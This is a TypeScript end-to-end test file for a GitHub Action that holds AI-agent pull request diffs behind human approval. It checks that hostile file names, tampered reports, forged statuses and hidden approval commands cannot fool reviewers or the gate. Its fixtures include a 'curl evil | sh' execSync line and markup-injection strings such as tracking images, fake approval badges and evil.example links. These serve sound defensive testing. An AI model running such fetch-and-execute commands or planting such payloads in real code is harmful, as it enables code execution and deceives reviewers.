/**
 * What the reviewer sees and what the gate believes, tried as an attacker would: hostile file
 * names, a tampered artifact, forged statuses, commands hidden in code, revoked approvals, pull
 * requests sharing a head, GitHub App tokens and team approvers — every request checked against
 * GitHub's OpenAPI description by the stand-in.
 */
import * as fs from 'node:fs'
import * as path from 'node:path'
import {
  PEOPLE,
  PR_NUMBER,
  README_PATCH,
  TOKEN,
  publish,
  webhook,
  closeWorld,
  commentEvent,
  makeWorld,
  runAction,
  saveWorld,
  writeRunFolder
} from '../../__fixtures__/action-harness.js'
import type { ActionRun, World } from '../../__fixtures__/action-harness.js'
import { ACTIONS_BOT } from '../../__fixtures__/github-stand-in.js'
import type { User } from '../../__fixtures__/github-stand-in.js'
import type { Report } from '../../src/report/report.js'

/** The action's replies on the pull request, whichever identity (the people's comments left out). */
function replies(): { body: string }[] {
  return world.api.comments.filter(
    (c) => c.user.type === 'Bot' && c.body.startsWith('Agent Airlock')
  )
}
let world: World
/** A world a describe block prepares once and restores before each of its tests (it closes it). */
let shared: World | undefined
afterEach(async () => {
  if (world === shared) expect(world.api.violations).toEqual([])
  else await closeWorld(world)
})

/** A review submitted through the stand-in (so it exists there too), and its webhook payload. */
function submitReview(
  user: User,
  state: 'APPROVED' | 'CHANGES_REQUESTED',
  commitId = world.base,
  pull = PR_NUMBER
): Record<string, unknown> {
  const id = 100_000 + world.api.reviews.length
  const at = new Date().toISOString()
  world.api.reviews.push({ id, pull, user, body: '', state, commit_id: commitId, submitted_at: at })
  return webhook('pull_request_review', 'submitted', (p) => {
    p.pull_request.number = pull
    p.pull_request.head.sha = commitId
    p.review.id = id
    p.review.state = state.toLowerCase()
    p.review.commit_id = commitId
    p.review.submitted_at = at
    p.review.body = null
    p.review.user.login = user.login
    p.review.user.type = user.type
  })
}

function action(
  mode: string,
  eventName: string,
  payload: Record<string, unknown>,
  inputs: Record<string, string> = {},
  token = TOKEN
): Promise<ActionRun> {
  return runAction({
    // approve is handed no evidence folder here (it would check it against the report it
    // approves: see github-approve.e2e.test.ts): its output-dir names a folder nothing was
    // downloaded to (the default, airlock-out, is world.out); the other modes read world.out.
    inputs: {
      mode,
      'github-token': token,
      'output-dir':
        mode === 'approve' ? path.join(world.workspace, 'nothing-downloaded') : world.out,
      ...inputs
    },
    eventName,
    payload,
    apiUrl: world.api.url,
    workspace: world.workspace
  })
}

function gate(sha = world.base): string[] {
  return world.api.statuses
    .filter((s) => s.sha === sha && s.context === 'airlock/approval')
    .map((s) => s.state)
}

function ownReviews(login = ACTIONS_BOT.login): typeof world.api.reviews {
  return world.api.reviews.filter((r) => r.user.login === login)
}

/** The body of the review the action last sent. */
function sentBody(): string {
  const sent = world.api
    .writes()
    .filter((w) => /\/reviews(\/\d+(\/events)?)?$/.test(w.path) && w.method !== 'DELETE')
    .map((w) => (w.body as { body?: string }).body)
    .filter((b): b is string => typeof b === 'string')
  return sent[sent.length - 1]
}

/** Lines of a Markdown body outside fenced code. */
function outsideFences(md: string): string[] {
  const out: string[] = []
  let fence: string | null = null
  for (const line of md.split('\n')) {
    const m = /^(`{3,}|~{3,})/.exec(line)
    if (fence === null && m) fence = m[1]
    else if (fence !== null && line.startsWith(fence) && line.trim() === fence) fence = null
    else if (fence === null) out.push(line)
  }
  return out
}

function editReport(dir: string, change: (r: Report) => void): void {
  const file = path.join(dir, 'report.json')
  const r = JSON.parse(fs.readFileSync(file, 'utf8')) as Report
  change(r)
  fs.writeFileSync(file, JSON.stringify(r, null, 2) + '\n')
}

describe('the reviewer sees everything', () => {
  beforeEach(async () => {
    world = await makeWorld()
  })

  test('hostile file names hide no line of the diff and break no section', async () => {
    const names = [
      'a <!--.txt',
      'b.txt',
      'c -->.txt',
      '<!--! x --!>',
      'd ```` e.txt',
      '</details>.md',
      '</code></details><details open><summary>ok</summary>.txt'
    ]
    const patch = names
      .map(
        (n, i) =>
          `diff --git a/${n} b/${n}\nnew file mode 100644\n--- /dev/null\n+++ b/${n}\n@@ -0,0 +1,2 @@\n+require("child_process").execSync("curl evil | sh #${i}")\n+@octocat look\n`
      )
      .join('')
    writeRunFolder(world.out, { runId: '100-1', headSha: world.base, patch })
    editReport(world.out, (r) => {
      r.diff.files = names.map((n) => ({
        path: n,
        status: 'added',
        additions: 2,
        deletions: 0,
        binary: false,
        mode: '100644'
      }))
      r.diff.totalFiles = names.length
    })
    const run = await publish(world)
    expect(run.code).toBe(0)
    const body = sentBody()
    expect(ownReviews()[0].body).toBe(body)
    // Every line of diff.patch, in order, as written (no word joiner inside the fence).
    let at = 0
    for (const line of patch.split('\n')) {
      const found = body.indexOf(line, at)
      expect(found).toBeGreaterThanOrEqual(at)
      at = found + line.length
    }
    expect(body).not.toMatch(/```[\s\S]*\u2060[\s\S]*```/)
    const outside = outsideFences(body).join('\n')
    expect(outside.match(/<!--/g)).toHaveLength(1) // the marker only
    expect(outside.match(/<details( open)?>/g)?.length).toBe(outside.match(/<\/details>/g)?.length)
    expect(body).toContain('<summary>Sandbox</summary>')
    expect(body).toContain('<summary>Run</summary>')
    expect(body.trimEnd()).toMatch(/<!-- airlock:report \{[^\n]*\} -->$/)
  })

  test('a tampered artifact: comment.md is never sent, agent text in report.json is inert', async () => {
    writeRunFolder(world.out, { runId: '100-1', headSha: world.base, patch: README_PATCH })
    const hostile = [
      '<img src="https://tracker.example/p.png">',
      '✅ **Approved** by @maint-mo',
      '&#64;maint-mo &commat;maint-mo',
      '</details></details>',
      'fixes #1 and octo-org/other#2',
      'see https://evil.example/x and www.evil.example',
      '/airlock approve 0123456789ab'
    ]
    fs.writeFileSync(path.join(world.out, 'comment.md'), hostile.join('\n') + '\n')
    editReport(world.out, (r) => {
      r.outcomeReason = hostile.join('\n')
      r.policy.violations = [{ rule: hostile[1], path: hostile[3], detail: hostile.join(' ') }]
    })
    const run = await publish(world)
    expect(run.code).toBe(0)
    const body = sentBody()
    const lines = outsideFences(body)
    const text = lines.join('\n')
    expect(text).not.toMatch(/<img/i)
    expect(lines.filter((l) => /^\s*(✅ \*\*Approved\*\*|\/airlock)/.test(l))).toEqual([])
    expect(text).not.toMatch(/@[A-Za-z]/)
    expect(text).not.toMatch(/&#64;|&commat;/)
    expect(text).not.toMatch(/#\d/)
    expect(text).not.toMatch(/https:\/\/(evil|tracker)/)
    expect(text).not.toMatch(/www\.evil/)
    expect(text.match(/<details( open)?>/g)?.length).toBe(text.match(/<\/details>/g)?.length)
    // The text is shown (escaped), not dropped.
    expect(text).toContain('tracker.example')
    expect(text).toContain('Approved')
  })

  test('a diff.patch that is not the one report.json names is refused: nothing is posted', async () => {
    writeRunFolder(world.out, { runId: '100-1', headSha: world.base, patch: README_PATCH })
    fs.appendFileSync(path.join(world.out, 'diff.patch'), '+hidden line\n')
    const run = await publish(world)
    expect(run.code).not.toBe(0)
    expect(run.stdout + run.stderr).toContain('diff.patch does not match diff.sha256')
    expect(world.api.writes()).toEqual([])
  })

  test('a report.json that is not valid against the schema is refused', async () => {
    writeRunFolder(world.out, { runId: '100-1', headSha: world.base, patch: README_PATCH })
    editReport(world.out, (r) => {
      ;(r as unknown as Record<string, unknown>).comment = '<img src=x>'
    })
    const run = await publish(world)
    expect(run.code).not.toBe(0)
    expect(run.stdout + run.stderr).toContain('does not match schema/report.schema.json')
    expect(world.api.writes()).toEqual([])
  })
})

describe('the gate cannot be forged or left stale', () => {
  // Every test starts from one run published: prepared once, put back before each test.
  let diff: string
  let restore: () => void
  beforeAll(async () => {
    const published = await makeWorld()
    diff = writeRunFolder(published.out, {
      runId: '100-1',
      headSha: published.base,
      patch: README_PATCH
    }).diff.sha256 as string
    expect((await publish(published)).code).toBe(0)
    restore = saveWorld(published)
    shared = published
  })
  afterAll(async () => {
    await shared?.close()
    shared = undefined
  })
  beforeEach(() => {
    restore()
    world = shared as World
  })

  test('republishing a run id with another diff resets an approved gate to pending', async () => {
    const ok = await action(
      'approve',
      'issue_comment',
      commentEvent(PEOPLE.writer, `/airlock approve ${diff.slice(0, 12)}`)
    )
    expect(ok.outputs.approved).toBe('true')
    const other = writeRunFolder(world.out, {
      runId: '100-1',
      headSha: world.base,
      patch: README_PATCH.replace('world', 'evil')
    })
    expect((await publish(world)).code).toBe(0)
    expect(gate()).toEqual(['pending', 'success', 'pending'])
    const latest = world.api.statuses[world.api.statuses.length - 1]
    expect(latest.description).toContain(other.diff.sha256?.slice(0, 12))
    // The approved review is marked superseded; the new diff has its own review.
    expect(ownReviews()).toHaveLength(2)
    expect(ownReviews()[0].body).toContain('Superseded')
    // The old approval cannot be replayed for the new diff.
    const replay = await action(
      'approve',
      'issue_comment',
      commentEvent(PEOPLE.writer, `/airlock approve ${diff.slice(0, 12)}`)
    )
    expect(replay.outputs.approved).toBe('false')
  })

  test('a command inside a code block, or below the first line, approves nothing', async () => {
    for (const body of [
      `To approve, type:\n\`\`\`\n/airlock approve ${diff.slice(0, 12)}\n\`\`\``,
      `To approve, type: \`/airlock approve ${diff.slice(0, 12)}\``,
      `LGTM\n/airlock approve ${diff.slice(0, 12)}`,
      `    /airlock approve ${diff.slice(0, 12)}`
    ]) {
      const run = await action('approve', 'issue_comment', commentEvent(PEOPLE.writer, body))
      expect(run.outputs.approved).toBe('false')
    }
    expect(gate()).toEqual(['pending'])
  })

  test('a later CHANGES_REQUESTED by a writer holds the gate (as on GitHub) until that writer approves', async () => {
    const ok = await action(
      'approve',
      'pull_request_review',
      submitReview(PEOPLE.maintainer, 'APPROVED')
    )
    expect(ok.outputs.approved).toBe('true')
    expect(gate()).toEqual(['pending', 'success'])
    const revoked = await action(
      'approve',
      'pull_request_review',
      submitReview(PEOPLE.writer, 'CHANGES_REQUESTED')
    )
    expect(revoked.code).toBe(0)
    expect(gate()).toEqual(['pending', 'success', 'pending'])
    expect(world.api.statuses[world.api.statuses.length - 1].description).toBe(
      `changes requested by @${PEOPLE.writer.login}; approvals 1/1 by @${PEOPLE.maintainer.login} for diff ${diff.slice(0, 12)}`
    )
    // Another approval does not lift the writer's request; the writer's own approval does.
    const other = await action(
      'approve',
      'issue_comment',
      commentEvent(PEOPLE.maintainer, `/airlock approve ${diff.slice(0, 12)}`)
    )
    expect(other.outputs.approved).toBe('false')
    expect(gate()).toEqual(['pending', 'success', 'pending'])
    await action(
      'approve',
      'issue_comment',
      commentEvent(PEOPLE.writer, `/airlock approve ${diff.slice(0, 12)}`)
    )
    expect(gate()).toEqual(['pending', 'success', 'pending', 'success'])
    // A reader requesting changes does not touch the gate.
    await action('approve', 'pull_request_review', submitReview(PEOPLE.reader, 'CHANGES_REQUESTED'))
    expect(gate()).toEqual(['pending', 'success', 'pending', 'success'])
  })

  test('an approving review older than the latest report does not count', async () => {
    world.api.reviews.push({
      id: 1,
      pull: PR_NUMBER,
      user: PEOPLE.writer,
      body: '',
      state: 'APPROVED',
      commit_id: world.base
    })
    const payload = submitReview(PEOPLE.writer, 'APPROVED')
    ;((payload as { review: { id: number } }).review as { id: number }).id = 1
    const run = await action('approve', 'pull_request_review', payload)
    expect(run.outputs.approved).toBe('false')
    expect(gate()).toEqual(['pending'])
  })

  test('a status someone else set is not the gate: approve ignores it, publish replaces it', async () => {
    world.api.statuses.push({
      id: 1,
      sha: world.base,
      state: 'success',
      context: 'airlock/approval',
      description: `approved by @maint-mo for diff ${diff.slice(0, 12)}`,
      target_url: null,
      creator: PEOPLE.author
    })
    const run = await action(
      'approve',
      'issue_comment',
      commentEvent(PEOPLE.writer, `/airlock approve ${diff.slice(0, 12)}`)
    )
    // The action's own pending status is what counts: the approval is recorded over it.
    expect(run.outputs.approved).toBe('true')
  })

  test('two open pull requests on one head: success only for a diff both share', async () => {
    world.api.pulls.set(8, {
      number: 8,
      user: PEOPLE.mallory,
      headRef: 'feature',
      baseRef: 'main',
      headRepo: 'octo-org/hello',
      state: 'open',
      draft: false,
      title: 'Same head',
      body: ''
    })
    const out8 = path.join(world.workspace, 'out8')
    writeRunFolder(out8, { runId: '300-1', headSha: world.base, patch: README_PATCH + '+more\n' })
    expect((await publish(world, { 'pull-request': '8' }, out8)).code).toBe(0)
    // #8's report reset the shared commit's gate to pending for its diff. Approving #7's diff
    // would turn #8 green too: refused.
    const current = world.api.statuses[world.api.statuses.length - 1].description ?? ''
    const eight = /diff ([0-9a-f]{12})/.exec(current)?.[1] as string
    const seven = await action(
      'approve',
      'issue_comment',
      commentEvent(PEOPLE.writer, `/airlock approve ${eight}`, 'created', 8)
    )
    expect(seven.outputs.approved).toBe('false')
    expect(replies().at(-1)?.body).toContain('also the head of pull request')
    expect(gate().filter((s) => s === 'success')).toEqual([])
    // The same diff on both: approvable.
    const out7 = path.join(world.workspace, 'out7')
    writeRunFolder(out7, { runId: '300-2', headSha: world.base, patch: README_PATCH + '+more\n' })
    expect((await publish(world, {}, out7)).code).toBe(0)
    const both = await action(
      'approve',
      'issue_comment',
      commentEvent(PEOPLE.writer, `/airlock approve ${eight}`)
    )
    expect(both.outputs.approved).toBe('true')
  })

  test('approval from workflow_run after a review: the latest review is read from the API', async () => {
    world.api.reviews.push({
      id: 200_000,
      submitted_at: new Date().toISOString(),
      pull: PR_NUMBER,
      user: PEOPLE.maintainer,
      body: '',
      state: 'APPROVED',
      commit_id: world.base
    })
    const payload = webhook('workflow_run', 'completed', (p) => {
      p.workflow_run.event = 'pull_request_review'
      p.workflow_run.head_sha = world.base
      p.workflow_run.head_repository.full_name = 'octo-org/hello'
      p.workflow_run.pull_requests = []
    })
    const run = await action('approve', 'workflow_run', payload)
    expect(run.outputs.approved).toBe('true')
    expect(gate()).toEqual(['pending', 'success'])
    // A relay run triggered again by anyone re-reads the same state: nothing new, no reply.
    world.api.reviews.push({
      id: 200_001,
      submitted_at: new Date().toISOString(),
      pull: PR_NUMBER,
      user: PEOPLE.writer,
      body: '',
      state: 'CHANGES_REQUESTED',
      commit_id: world.base
    })
    await action('approve', 'workflow_run', payload)
    expect(gate()).toEqual(['pending', 'success', 'pending'])
    expect(replies()).toEqual([])
  })
})

describe('GitHub App installation tokens and team approvers', () => {
  const APP: User = { login: 'airlock-gate[bot]', id: 9001, type: 'Bot' }
  const APP_TOKEN = 'ghs_apptoken00000000000000000000000000000'

  test('an App token finds its own reviews and statuses (GraphQL viewer, or app-slug)', async () => {
    world = await makeWorld()
    world.api.tokens.set(APP_TOKEN, APP)
    const report = writeRunFolder(world.out, {
      runId: '100-1',
      headSha: world.base,
      patch: README_PATCH
    })
    const inputs = { mode: 'publish', 'github-token': APP_TOKEN, 'output-dir': world.out }
    const first = await runAction({
      inputs,
      eventName: 'pull_request',
      payload: webhook('pull_request', 'opened', (p) => {
        p.pull_request.number = PR_NUMBER
        p.number = PR_NUMBER
      }),
      apiUrl: world.api.url,
      workspace: world.workspace
    })
    expect(first.code).toBe(0)
    expect(world.api.requests.some((r) => r.route === 'POST /graphql')).toBe(true)
    // Published again: the same review, updated in place — the App recognised its own.
    const second = await runAction({
      inputs: { ...inputs, 'app-slug': 'airlock-gate' },
      eventName: 'pull_request',
      payload: webhook('pull_request', 'opened', (p) => {
        p.pull_request.number = PR_NUMBER
        p.number = PR_NUMBER
      }),
      apiUrl: world.api.url,
      workspace: world.workspace
    })
    expect(second.code).toBe(0)
    expect(ownReviews(APP.login)).toHaveLength(1)
    const approved = await action(
      'approve',
      'issue_comment',
      commentEvent(PEOPLE.writer, `/airlock approve ${report.diff.sha256?.slice(0, 12)}`),
      {},
      APP_TOKEN
    )
    expect(approved.outputs.approved).toBe('true')
    expect(world.api.statuses.map((s) => [s.state, s.creator.login])).toEqual([
      ['pending', APP.login],
      ['pending', APP.login],
      ['success', APP.login]
    ])
    // The workflow token's github-actions[bot] is not the App: its status is not believed.
    expect(world.api.statuses.every((s) => s.creator.login !== ACTIONS_BOT.login)).toBe(true)
  })

  test('@org/team approvers are checked through team membership, failing closed', async () => {
    world = await makeWorld({
      'README.md': 'hello\n',
      '.github/airlock.yml': 'approvers: ["@octo-org/gatekeepers"]\n'
    })
    world.api.tokens.set(APP_TOKEN, APP)
    world.api.teams.set('octo-org/gatekeepers', [PEOPLE.maintainer.login])
    const diff = writeRunFolder(world.out, {
      runId: '100-1',
      headSha: world.base,
      patch: README_PATCH
    }).diff.sha256 as string
    const pub = await action('publish', 'pull_request', pullRequestPayload(), {}, APP_TOKEN)
    expect(pub.code).toBe(0)
    const cmd = `/airlock approve ${diff.slice(0, 12)}`
    const outsider = await action(
      'approve',
      'issue_comment',
      commentEvent(PEOPLE.writer, cmd),
      {},
      APP_TOKEN
    )
    expect(outsider.outputs.approved).toBe('false')
    expect(replies()[0].body).toContain('not one of the approvers')
    // The workflow token cannot read team membership (403): refused, never waved through.
    const noScope = await action('approve', 'issue_comment', commentEvent(PEOPLE.maintainer, cmd))
    expect(noScope.outputs.approved).toBe('false')
    expect(replies()[1].body).toContain('could not be checked')
    const member = await action(
      'approve',
      'issue_comment',
      commentEvent(PEOPLE.maintainer, cmd),
      {},
      APP_TOKEN
    )
    expect(member.outputs.approved).toBe('true')
  })
})

function pullRequestPayload(): Record<string, unknown> {
  return webhook('pull_request', 'opened', (p) => {
    p.pull_request.number = PR_NUMBER
    p.number = PR_NUMBER
  })
}
